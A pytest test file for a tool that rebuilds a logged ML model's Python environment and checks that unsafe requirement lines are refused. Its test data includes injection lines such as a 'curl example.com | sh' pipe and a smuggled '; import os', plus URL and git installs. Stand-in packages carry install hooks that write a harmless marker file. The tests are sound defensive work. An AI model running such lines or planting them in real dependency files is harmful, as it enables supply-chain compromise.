"""The environment that a model was logged with: of lines that can run nothing, found again by what it is made of."""

import fcntl
import json
import os
import subprocess
import sys
import tarfile
import zipfile
from importlib.metadata import version
from pathlib import Path

import pytest

from trainyard.environments import installers, own, shelf
from trainyard.environments.interpreters import ask_interpreter, find_interpreter
from trainyard.environments.recipe import Recipe, digest_recipe, read_recipe
from trainyard.errors import UserError
from trainyard.models import LoggedModel
from trainyard.signature import ModelDescription

HERE = f"{sys.version_info[0]}.{sys.version_info[1]}"


def write(folder: Path, *lines: str, python: str = HERE) -> Recipe:
    folder.mkdir(parents=True, exist_ok=True)
    flavors = {"python_function": {"python_version": f"{python}.1"}}
    (folder / "MLmodel").write_text(json.dumps({"flavors": flavors, "mlflow_version": "2.9.2"}))
    (folder / "requirements.txt").write_text("\n".join(lines))
    return read_recipe(folder)


def logged(folder: Path, *lines: str, python: str = HERE) -> LoggedModel:
    write(folder, *lines, python=python)
    return LoggedModel("models:/m-1", folder, ModelDescription({}, None, {}, ""), "")


def test_lines_with_one_version_each_are_taken_as_they_are_read(tmp_path: Path):
    recipe = write(
        tmp_path,
        "mlflow<3,>=2.1  # as older MLflow writes it",
        "Scikit_Learn==1.2.2",
        "torch[opt-a, b]==2.0.1+cpu",
        "",
        '# nothing\ncolorama==0.4.6 ; sys_platform == "win32"',
    )
    assert recipe.lines == (
        'colorama==0.4.6; sys_platform == "win32"',
        "mlflow==2.9.2",
        "scikit-learn==1.2.2",
        "torch[b,opt-a]==2.0.1+cpu",
    )
    assert (recipe.python, recipe.loose, recipe.other, recipe.added) == (HERE, (), (), ())
    assert not any("colorama" in difference for difference in recipe.differences)


def test_what_our_own_program_needs_is_added_in_the_models_own_version(tmp_path: Path):
    tools = "python: 3.9.1\nbuild_dependencies:\n- pip==23\n- setuptools==65.5.0\n- evil @ https://x\n"
    (tmp_path / "python_env.yaml").write_text(tools)
    assert write(tmp_path, "joblib==1.3.0").added == ("mlflow==2.9.2", "setuptools==65.5.0")
    assert write(tmp_path, "mlflow-skinny==2.9.2", "numpy==1.26.4").added == ("pandas", "setuptools==65.5.0")
    assert write(tmp_path, "mlflow==2.9.2", "setuptools==60.0.0").added == ()
    (tmp_path / "MLmodel").unlink()
    assert read_recipe(tmp_path).python == "3.9"


# What a pull request's training may have written. Each reads as one line that is not taken.
HOSTILE = {
    "an address": "evil @ https://example.com/evil.whl",
    "a bare address": "https://user:secret@example.com/evil.whl",
    "git": "evil @ git+https://example.com/evil.git",
    "another index": "--index-url https://example.com/simple",
    "one more index": "--extra-index-url=https://example.com/simple",
    "more lines": "-r https://example.com/requirements.txt",
    "constraints": "-c constraints.txt",
    "the working folder": "-e .",
    "a folder": "./evil",
    "a file": "/evil-1-py3-none-any.whl",
    "a file by its address": "file:///tmp/evil.whl",
    "a command": "scikit-learn==1.2.2; import os",
    "a shell": "scikit-learn==1.2.2 && curl example.com | sh",
    "options beside it": "scikit-learn==1.2.2 --config-settings=x=y",
    "a version of any kind": "scikit-learn==1.2.*",
    "no version": "no-such-package",
    "a range": "no-such-package>=1",
    "a version as text": "no-such-package===1; x",
    "a line that goes on": "scikit-learn==1.2.2 \\",
}


@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE)
def test_a_line_that_could_lead_anywhere_is_refused_by_name_and_nothing_is_installed(
    line: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(subprocess, "Popen", lambda *_, **__: pytest.fail("a program was started"))
    model = logged(tmp_path / "model", "numpy==1.0.0", line)
    with pytest.raises(UserError) as refused, own.open_environment(model, tmp_path / "shelf"):
        pass
    problem = refused.value.problem
    assert problem.code == "requirements-not-plain"
    assert "line 2 `" in problem.message
    assert "secret" not in problem.message
    assert "models.champion: stored" in problem.remedy
    assert not (tmp_path / "shelf").exists()


def test_the_runners_python_is_taken_where_it_is_the_models_own(tmp_path: Path):
    for lines in ([f"numpy=={version('numpy')}", "pandas>=1"], []):
        with own.open_environment(logged(tmp_path / "met", *lines), tmp_path / "shelf") as found:
            assert (found.python, found.said["kind"], found.said["differences"]) == (None, "runner", [])
    # Of a line that names no package nobody can tell whether it is met.
    with pytest.raises(UserError, match="not-plain"):
        own.open_environment(logged(tmp_path / "met", "-e ."), tmp_path / "shelf").__enter__()


def test_where_the_default_branch_says_so_the_runners_python_is_taken_for_all(tmp_path: Path):
    with own.open_environment(logged(tmp_path, "numpy==1.0.0", "-e ."), None) as found:
        assert found.python is None
        assert found.said["differences"] == [f"numpy {version('numpy')}, logged with ==1.0.0"]


def test_a_python_that_the_runner_lacks_or_that_is_too_old_is_named(tmp_path: Path):
    with pytest.raises(UserError, match=r"python-not-here: .* Python 3\.99, and this runner has"):
        find_interpreter("3.99", "models:/m-1")
    with pytest.raises(UserError, match=r"python-too-old: .*Python 3\.9,"):
        find_interpreter("3.9", "models:/m-1")
    with pytest.raises(UserError, match="python-not-here"):
        own.open_environment(logged(tmp_path, "joblib==1.0.0", python="3.99"), tmp_path / "shelf").__enter__()


@pytest.mark.parametrize("body", ["echo 'pyenv: command not found' >&2; exit 127", "echo hello", "echo '{}'"])
def test_a_python_that_is_on_path_and_does_not_run_is_named(body: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    stand_in = tmp_path / "python3.99"
    stand_in.write_text(f"#!/bin/sh\n{body}\n")
    stand_in.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
    with pytest.raises(UserError, match=r"python-not-here: .*python3\.99, which does not run as Python 3\.99"):
        find_interpreter("3.99", "models:/m-1")


def test_another_python_under_that_name_is_not_taken_for_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    (tmp_path / "python3.99").symlink_to(sys.executable)
    monkeypatch.setenv("PATH", f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
    with pytest.raises(UserError, match="python-not-here"):
        find_interpreter("3.99", "models:/m-1")


# What a training may have written over the files of its model.
BROKEN = {
    "a comment in another encoding": ("requirements.txt", "joblib==1.3.0  # caf\u00e9".encode("latin-1")),
    "a mark before the first line": ("requirements.txt", b"\xef\xbb\xbfjoblib==1.3.0"),
    "flavours that are a list": ("MLmodel", b"flavors: [1]"),
    "a flavour that is a text": ("MLmodel", b"flavors: {python_function: x}"),
    "a date that is none": ("python_env.yaml", b"python: 2020-13-45"),
    "brackets without end": ("python_env.yaml", b"[" * 5000),
    "bytes that are no text": ("python_env.yaml", b"\xff\xfe"),
    "a version without end": ("MLmodel", b"flavors: {python_function: {python_version: '" + b"9" * 5000 + b".1'}}"),
}


@pytest.mark.parametrize("case", BROKEN)
def test_files_that_are_broken_are_read_as_far_as_they_say_anything(case: str, tmp_path: Path):
    write(tmp_path, "joblib==1.3.0")
    name, content = BROKEN[case]
    (tmp_path / name).write_bytes(content)
    recipe = read_recipe(tmp_path)
    assert recipe.pinned == ("joblib==1.3.0",)
    assert recipe.python in {None, HERE}


def test_a_name_in_another_encoding_is_a_line_that_is_not_taken(tmp_path: Path):
    write(tmp_path)
    (tmp_path / "requirements.txt").write_bytes(b"joblib==1.3.0\ncaf\xe9==1.0\n")
    recipe = read_recipe(tmp_path)
    assert recipe.pinned == ("joblib==1.3.0",)
    assert [line.number for line in recipe.other] == [2]


def test_an_environment_is_named_by_what_it_is_made_of(tmp_path: Path):
    here = ask_interpreter(sys.executable).to_json()
    one, same = write(tmp_path, "a==1", "b==2"), write(tmp_path, "b==2", "# a", "a==1")
    digest = digest_recipe(one, here)
    assert digest == digest_recipe(same, here)
    assert digest != digest_recipe(write(tmp_path, "a==1", "b==2.1"), here)
    for changed in ("version", "platform", "executable"):
        assert digest != digest_recipe(one, {**here, changed: "another"})


def make_wheel(folder: Path, name: str, requires: str = "", files: dict[str, str] | None = None) -> None:
    info = f"{name}-1.dist-info"
    requirement = f"Requires-Dist: {requires}\n" if requires else ""
    with zipfile.ZipFile(folder / f"{name}-1-py3-none-any.whl", "w") as wheel:
        for path, text in {f"{name}.py": "value = 1\n", **(files or {})}.items():
            wheel.writestr(path, text)
        wheel.writestr(f"{info}/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n{requirement}")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")


def make_source(folder: Path, name: str, loot: Path) -> Path:
    source = folder / "source" / f"{name}-1"
    source.mkdir(parents=True)
    setup = f"open({str(loot)!r}, 'w').close()\nfrom setuptools import setup\nsetup(name={name!r}, version='1')\n"
    (source / "setup.py").write_text(setup)
    (source / "PKG-INFO").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1\n")
    archive = folder / f"{name}-1.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(source, f"{name}-1")
    return archive


@pytest.fixture(params=["pip", "uv"])
def index(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of packages that is all the installer looks into."""
    found = installers.shutil.which("uv")
    if request.param == "uv" and found is None:
        pytest.skip("no uv on this machine")
    if request.param == "pip":
        monkeypatch.setattr(installers.shutil, "which", lambda _: None)
    folder = tmp_path / "index"
    folder.mkdir()
    for name, value in {"NO_INDEX": "1", "FIND_LINKS": str(folder), "NO_CACHE_DIR": "1"}.items():
        monkeypatch.setenv(f"PIP_{name}", value)
        monkeypatch.setenv(f"UV_{name}", value)
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    return folder


def build(folder: Path, *lines: str) -> dict:
    interpreter = ask_interpreter(sys.executable)
    return own.build_environment(Recipe(HERE, pinned=lines), interpreter, folder, "models:/m-1")


def test_wheels_are_installed_and_nothing_of_them_has_run(index: Path, tmp_path: Path):
    loot = tmp_path / "loot"
    hooks = {
        "sitecustomize.py": f"open({str(loot)!r}, 'w').close()\n",
        "a.pth": f"import os; open({str(loot)!r}, 'w')\n",
    }
    make_wheel(index, "inner")
    make_wheel(index, "outer", "inner>=1", hooks)
    said = build(tmp_path / "environment", "outer==1")
    assert said["packages"] == ["inner-1", "outer-1"]
    assert not loot.exists()
    python = tmp_path / "environment" / "bin" / "python"
    asked = [str(python), "-I", "-c", "import inner, outer, sys; print(inner.value, sys.prefix)"]
    assert subprocess.run(asked, capture_output=True, check=True, text=True).stdout.split() == [
        "1",
        str(python.parents[1]),
    ]
    # That was the model's to do, in its box.
    assert loot.exists()


def test_a_package_without_a_wheel_is_not_built(index: Path, tmp_path: Path):
    make_source(index, "evil", tmp_path / "loot")
    with pytest.raises(
        UserError, match=r"environment-not-built: .*evil==1\) can't be built by (pip|uv): .*evil"
    ) as refused:
        build(tmp_path / "environment", "evil==1")
    assert "models.champion: stored" in refused.value.problem.remedy
    assert not (tmp_path / "loot").exists()


def test_a_wheel_that_requires_a_package_at_an_address_does_not_have_it_built(index: Path, tmp_path: Path):
    archive = make_source(tmp_path, "evil", tmp_path / "loot")
    make_wheel(index, "outer", f"evil @ {archive.as_uri()}")
    with pytest.raises(UserError, match="environment-not-built"):
        build(tmp_path / "environment", "outer==1")
    assert not (tmp_path / "loot").exists()


def test_passing_trouble_is_tried_again_a_few_times_and_told_in_the_installers_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(installers, "PAUSE_SECONDS", 0)
    counted = tmp_path / "counted"
    script = f"echo >> {counted}; echo 'Collecting a'; echo 'ERROR: connection reset by peer'; exit 1"
    stuck = installers.Installer("pip", ("sh", "-c", script))
    (tmp_path / "build").mkdir()
    assert installers.install(stuck, ("a==1",), tmp_path / "build" / "site") == "ERROR: connection reset by peer"
    assert counted.read_text().count("\n") == installers.ATTEMPTS
    monkeypatch.setattr(installers, "INSTALL_SECONDS", 0.2)
    endless = installers.Installer("pip", ("sh", "-c", "echo 'Collecting a'; exec sleep 60"))
    monkeypatch.setattr(installers, "ATTEMPTS", 1)
    assert (
        installers.install(endless, ("a==1",), tmp_path / "build" / "site") == "it was ended after 0.2 s; Collecting a"
    )


class Counting:
    """Builds nothing, and counts."""

    def __init__(self) -> None:
        self.built: list[str] = []

    def build(self, folder: Path) -> dict:
        self.built.append(folder.name)
        (folder / "file").write_text("content")
        return {"packages": []}


def test_what_was_built_is_found_again(tmp_path: Path):
    counting = Counting()
    for _ in range(2):
        with shelf.keep_environment(tmp_path / "shelf", "a", counting.build) as (folder, said):
            assert folder == tmp_path / "shelf" / "a"
            assert said == {"packages": [], "bytes": 7}
    assert counting.built == ["a.building"]


def test_what_could_not_be_built_whole_is_not_kept(tmp_path: Path):
    def fail(folder: Path) -> dict:
        (folder / "half").write_text("half")
        raise UserError("environment-not-built", "It failed.", "Mend it.")

    with pytest.raises(UserError), shelf.keep_environment(tmp_path, "a", fail):
        pass
    assert [path.name for path in tmp_path.iterdir()] == ["a.lock"]


def test_a_few_are_kept_those_used_last_and_none_goes_that_is_in_use(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(shelf, "MOST_ENVIRONMENTS", 2)
    counting = Counting()
    a, b, c, d = ("a" * 64, "b" * 64, "c" * 64, "d" * 64)
    (tmp_path / f"{'f' * 64}.building").mkdir()
    for age, digest in enumerate((a, b, c)):
        with shelf.keep_environment(tmp_path, digest, counting.build) as (folder, _):
            os.utime(folder / shelf.MARK, (age, age))
    assert {path.name for path in tmp_path.iterdir() if path.is_dir()} == {b, c}
    # Somebody else's job, in a process of its own, reads its lock beside it.
    with (tmp_path / f"{b}.lock").open() as used:
        fcntl.flock(used, fcntl.LOCK_SH)
        with shelf.keep_environment(tmp_path, d, counting.build):
            assert {path.name for path in tmp_path.iterdir() if path.is_dir()} == {b, c, d}
    assert counting.built == [f"{digest}.building" for digest in (a, b, c, d)]


def test_what_others_keep_in_the_same_folder_stays(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(shelf, "MOST_ENVIRONMENTS", 1)
    for name in ("documents", ".ssh", "work.building", "cafe", "b" * 64 + ".old"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "file").write_text("theirs")
    (tmp_path / "note.lock").write_text("theirs")
    before = {path.name for path in tmp_path.iterdir()}
    for digest in ("a" * 64, "c" * 64):
        with shelf.keep_environment(tmp_path, digest, Counting().build):
            pass
    assert {path.name for path in tmp_path.iterdir()} == {*before, "c" * 64, "c" * 64 + ".lock"}
    assert (tmp_path / "documents" / "file").read_text() == "theirs"


def test_a_folder_that_others_may_write_is_refused(tmp_path: Path):
    tmp_path.chmod(0o777)
    with pytest.raises(UserError, match="environments-not-own"):
        shelf.keep_environment(tmp_path, "a", Counting().build).__enter__()


def test_what_is_written_about_an_environment_is_whole_json(tmp_path: Path):
    with shelf.keep_environment(tmp_path, "a", Counting().build) as (folder, said):
        assert json.loads((folder / shelf.MARK).read_text()) == said
